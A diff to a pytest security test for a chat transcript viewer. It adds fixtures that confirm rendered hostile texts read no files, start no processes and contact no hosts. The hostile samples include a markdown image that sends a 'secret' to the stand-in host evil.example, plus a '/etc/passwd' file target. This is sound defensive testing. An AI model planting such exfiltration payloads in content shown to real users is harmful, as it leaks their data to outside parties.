@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import dataclasses
 import socket
-from collections.abc import Iterator
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
 
 import pytest
 from PySide6.QtCore import QUrl
-from PySide6.QtGui import QTextDocument, QTextFormat
+from PySide6.QtGui import QImage, QTextDocument, QTextFormat
 from PySide6.QtWidgets import QApplication
 
 from octavo.session.state import MessageState, Problem
@@ -20,6 +23,7 @@ from octavo.ui.chat.targets import LinkTarget
 from octavo.ui.chat.transcript import Transcript
 from support.chat import answer, citation, question
 from support.chat_view import WatchedTranscript, blocks
+from support.outside import Outside
 
 HOSTILE = {
     "markdown image": "Look ![chart](http://evil.example/a.png?q=secret) here.",
@@ -53,19 +57,21 @@ HOSTILE = {
 }
 OBJECT = "\ufffc"
 EVIL = "evil.example"
+SECRET = "/etc/passwd"
 
 
 class Listener:
-    """Somebody on this computer who waits to be called."""
+    """Somebody on this computer who waits to be called, and a file that waits to be read."""
 
-    def __init__(self) -> None:
+    def __init__(self, bait: Path) -> None:
+        self._bait = bait
         self._socket = socket.create_server(("127.0.0.1", 0))
         self._socket.setblocking(False)
         self.host = f"127.0.0.1:{self._socket.getsockname()[1]}"
 
     def text(self, text: str) -> str:
-        """Let a text point here."""
-        return text.replace(EVIL, self.host)
+        """Let a text point here and at the bait."""
+        return text.replace(EVIL, self.host).replace(SECRET, self._bait.as_posix())
 
     def assert_not_called(self) -> None:
         QApplication.processEvents()
@@ -77,10 +83,20 @@ class Listener:
 
 
 @pytest.fixture
-def listener() -> Iterator[Listener]:
-    made = Listener()
+def outside(tmp_path: Path) -> Iterator[Outside]:
+    made = Outside(tmp_path)
     yield made
     made.close()
+
+
+@pytest.fixture
+def listener(outside: Outside, transcript: WatchedTranscript) -> Iterator[Listener]:
+    """Whatever is done while it is there, no file is read, no process started, nobody called."""
+    made = Listener(outside.bait)
+    with outside:
+        yield made
+    made.close()
+    assert outside.touched == []
 
 
 def assert_harmless(transcript: WatchedTranscript) -> None:
@@ -184,3 +200,26 @@ def test_the_document_gets_nothing_whatever_it_asks_for(listener: Listener, name
     transcript.setSource(QUrl(name))
     assert transcript.source().isEmpty()
     listener.assert_not_called()
+
+
+@pytest.mark.parametrize(
+    ("touch", "event"),
+    [
+        (lambda bait, _: bait.read_bytes(), "open"),
+        (lambda bait, _: list(bait.parent.iterdir()), "os.listdir"),
+        (lambda *_: subprocess.run([sys.executable, "-c", ""], check=True), "subprocess.Popen"),
+        (lambda _, address: socket.create_connection(address).close(), "socket.connect"),
+        pytest.param(
+            lambda bait, _: QImage(str(bait)),
+            "bait",
+            marks=pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells"),
+        ),
+    ],
+)
+def test_the_watch_would_see_it(
+    outside: Outside, touch: Callable[[Path, tuple[str, int]], object], event: str
+) -> None:
+    """Security 1: what is asserted here of every hostile text can fail."""
+    with socket.create_server(("127.0.0.1", 0)) as server, outside:
+        touch(outside.bait, server.getsockname())
+    assert event in {name for name, _ in outside.touched}
